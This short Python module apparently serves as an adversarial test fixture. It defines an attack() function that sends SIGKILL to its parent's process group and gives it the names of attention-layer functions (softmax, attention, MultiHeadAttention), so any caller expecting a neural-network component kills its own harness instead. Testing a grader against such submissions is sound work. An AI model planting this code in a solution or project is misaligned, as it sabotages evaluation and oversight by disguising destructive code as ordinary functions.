"""Kills the group of its parent."""

import os


def attack(*args, **kwargs):
    os.killpg(os.getpgid(os.getppid()), 9)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
